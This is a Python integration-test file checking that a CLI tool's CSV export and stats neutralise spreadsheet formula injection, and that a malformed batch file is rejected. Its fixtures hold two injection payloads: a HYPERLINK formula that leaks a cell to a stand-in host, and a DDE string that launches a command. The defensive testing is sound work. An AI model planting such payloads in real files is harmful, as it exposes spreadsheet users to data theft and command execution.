"""Files for people against the local AWS server: hostile text in CSV exports and stats, strict --from-file."""

from __future__ import annotations

import csv
import io
import uuid
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest

from wrapguard.aws.wiring import local_db
from wrapguard.cli.review import main
from wrapguard.domain.deadline import Deadline
from wrapguard.domain.failures import Failure, FailureReason, FailureSource
from wrapguard.store.failures import FailureStore

pytestmark = pytest.mark.integration
T0 = datetime(2026, 11, 20, 9, 0, tzinfo=UTC)
CODE_NAME = '=HYPERLINK("http://x.example/?"&A1,"Resolved")'  # a flow author can name a code anything
MEDIA = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.fixture
def store(function_env: dict[str, Any]) -> FailureStore:
    return FailureStore(local_db(), function_env["FAILURES_TABLE_NAME"])


def run(*argv: str) -> tuple[int, str, str]:
    out, err = io.StringIO(), io.StringIO()
    return main(list(argv), out=out, err=err), out.getvalue(), err.getvalue()


def record(store: FailureStore, minutes: int) -> tuple[str, str]:
    cid, pid = str(uuid.uuid4()), str(uuid.uuid4())
    store.record(
        Failure(
            conversation_id=cid,
            participant_id=pid,
            reason=FailureReason.WINDOW_CLOSED,
            source=FailureSource.DATA_ACTION,
            message="-1+1 closed",
            wrapup_code_id=str(uuid.uuid4()),
            wrapup_code_name=CODE_NAME,
            media_type=MEDIA,
            occurred_at=T0 + timedelta(minutes=minutes),
            conversation_end=T0 + timedelta(minutes=minutes),
        ),
        deadline=Deadline.unbounded(),
    )
    return cid, pid


def test_export_and_stats_csv_neutralise_hostile_text(store: FailureStore, tmp_path: Path) -> None:
    keys = [record(store, minute) for minute in range(3)]
    assert run("resolve", *keys[0], "--note", "+1 called back", "--by", "@ana")[0] == 0
    target = tmp_path / "failures.csv"
    assert run("export", "--format", "csv", "--output", str(target))[0] == 0
    rows = {(r["conversationId"], r["participantId"]): r for r in csv.DictReader(target.open(encoding="utf-8"))}
    assert len(rows) == 3
    for row in rows.values():
        assert (row["wrapupCodeName"], row["message"]) == ("'" + CODE_NAME, "'-1+1 closed")
        assert row["attempts"] == "1" and row["expiresAt"].isdigit()
    assert (rows[keys[0]]["reviewNote"], rows[keys[0]]["reviewedBy"]) == ("'+1 called back", "'@ana")

    # The neutralised export feeds `resolve --from-file` as before (ids are never changed).
    code, out, _ = run("resolve", "--from-file", str(target), "--note", "done", "--by", "ana")
    assert code == 5 and out.strip() == "resolve: 2 resolved, 1 already reviewed, 0 not found"

    code, text, err = run("stats", "--since", "2026-11-20", "--until", "2026-11-20T23:59:59Z", "--by", "media",
                          "--ids", "--format", "csv")  # fmt: skip
    assert code == 0, err
    (row,) = csv.DictReader(io.StringIO(text))
    assert (row["media"], row["failures"], row["openFailures"], row["failureShare"]) == ("'" + MEDIA, "3", "0", "1.0")


def test_a_stray_quote_on_line_2_of_5_rejects_the_file_and_writes_nothing(store: FailureStore, tmp_path: Path) -> None:
    keys = [record(store, minute) for minute in range(5)]
    lines = [f"{c},{p},handled" for c, p in keys]
    lines[1] = '"' + lines[1]  # before: lines 2-5 became one note and the command reported success
    batch = tmp_path / "batch.csv"
    batch.write_text("\n".join(lines) + "\n", encoding="utf-8")
    code, out, err = run("resolve", "--from-file", str(batch), "--by", "ana")
    assert (code, out) == (2, "")
    assert err.splitlines() == [
        'wrapguard-review: --from-file line 2: a quoted cell starting here is never closed (a stray or missing ")'
    ]
    for key in keys:
        item = store.get(*key, deadline=Deadline.unbounded())
        assert item is not None and item["status"] == "open" and "reviews" not in item
